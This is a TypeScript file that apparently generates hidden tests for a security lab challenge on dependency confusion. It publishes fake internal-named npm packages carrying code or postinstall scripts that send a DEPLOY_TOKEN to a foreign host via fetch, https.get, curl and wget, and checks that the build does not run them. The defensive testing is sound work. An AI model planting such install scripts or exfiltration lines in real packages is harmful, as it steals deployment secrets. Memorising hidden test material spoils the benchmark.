import type { GeneratedAttack, GeneratedCheck, GeneratorTools, HiddenTests, Oracle } from '#lab'
import { buildsAsUsual, type Parcel, stealToken, TOKEN, whilePublished } from './steps.ts'

/** Lines of JavaScript that send the token to a host. */
function mail({ random }: GeneratorTools, host: string): string {
  const address = `https://${host}/${random.word()}`
  return random.pick([
    `require('https').get('${address}?' + ${TOKEN})`,
    `require('node:https').get('${address}?t=' + ${TOKEN})`,
    `fetch('${address}', { method: 'POST', body: ${TOKEN} })`,
    `fetch('${address}', { headers: { 'x-${random.word()}': ${TOKEN} } })`,
    `require('child_process').execSync('curl -s ${address} -d "$DEPLOY_TOKEN"')`,
  ])
}

/** A version above all internal packages that fits into any range with its major version. */
const above = ({ random }: GeneratorTools): string => `1.${random.number(5, 999)}.${random.number(0, 99)}`

/** What the robot's page needs of the two packages, so that the build goes on. */
const EXPORTS: Readonly<Record<string, string>> = {
  'crate-utils': 'exports.crate = (label) => label',
  'crate-ties': 'exports.tie = (lines) => lines.join()',
}

function attacksOn(kit: GeneratorTools): GeneratedAttack[] {
  const { random, urls } = kit
  const attack = (name: string, parcel: Parcel, host: string): GeneratedAttack => ({
    name,
    payload: JSON.stringify(parcel),
    challenge: 'twoCratesChallenge',
    run: (tools) => stealToken(tools, host, parcel),
  })
  const withCode = (name: string, parcel: string, version: string): GeneratedAttack => {
    const host = urls.foreignHost()
    const code = `${mail(kit, host)}\n${random.chance() ? (EXPORTS[parcel] ?? '') : ''}`
    return attack(name, { name: parcel, version, main: code }, host)
  }
  const withScript = (name: string, parcel: string, version: string): GeneratedAttack => {
    const host = urls.foreignHost()
    const postinstall = random.pick([
      mail(kit, host),
      `node -e "${mail(kit, host).replaceAll('"', '')}"`,
      `curl -s https://${host}/ -d $DEPLOY_TOKEN`,
      `wget -qO - https://${host}/$DEPLOY_TOKEN`,
    ])
    return attack(name, { name: parcel, version, scripts: { postinstall } }, host)
  }
  return [
    withScript(
      'an internal package with a very high version, and an install script: it must not run',
      'crate-utils',
      random.chance() ? `${random.number(2, 99)}.${random.number(0, 9)}.0` : above(kit),
    ),
    withCode('an internal package with a high version, and code: it must not run', 'crate-utils', above(kit)),
    withCode(
      'an internal package with the same version: it must not run',
      'crate-utils',
      `1.4.2${random.pick(['', `+${random.word()}`])}`,
    ),
    withCode(
      'a package that an internal one needs, with a high version: it must not run',
      'crate-ties',
      `0.3.${random.number(2, 999)}`,
    ),
    withScript(
      'the same with an install script: it must not run',
      'crate-ties',
      `0.3.${random.number(2, 999)}`,
    ),
  ]
}

function functionalityFor(kit: GeneratorTools): GeneratedCheck[] {
  const { random } = kit
  const builds = (name: string, parcel: Parcel): GeneratedCheck => ({
    name,
    payload: `${parcel.name}@${parcel.version}`,
    run: (tools) => whilePublished(tools, parcel, () => buildsAsUsual(tools)),
  })
  return [
    builds('the page is built while somebody publishes a package of another name', {
      name: `${random.word()}-${random.pick(['utils', 'icons', 'ties'])}x`,
      version: `${random.number(1, 99)}.0.0`,
    }),
    builds('the page is built while somebody publishes an old version of an internal package', {
      name: random.pick(['crate-utils', 'crate-ties']),
      version: `0.${random.number(0, 2)}.${random.number(0, 9)}`,
    }),
  ]
}

export const hiddenTests: HiddenTests = (tools) => ({
  attacks: attacksOn(tools),
  functionality: functionalityFor(tools),
})

export const oracle: Oracle =
  'settings are not functions: the tests publish packages, have the page built, and look who was sent the token'
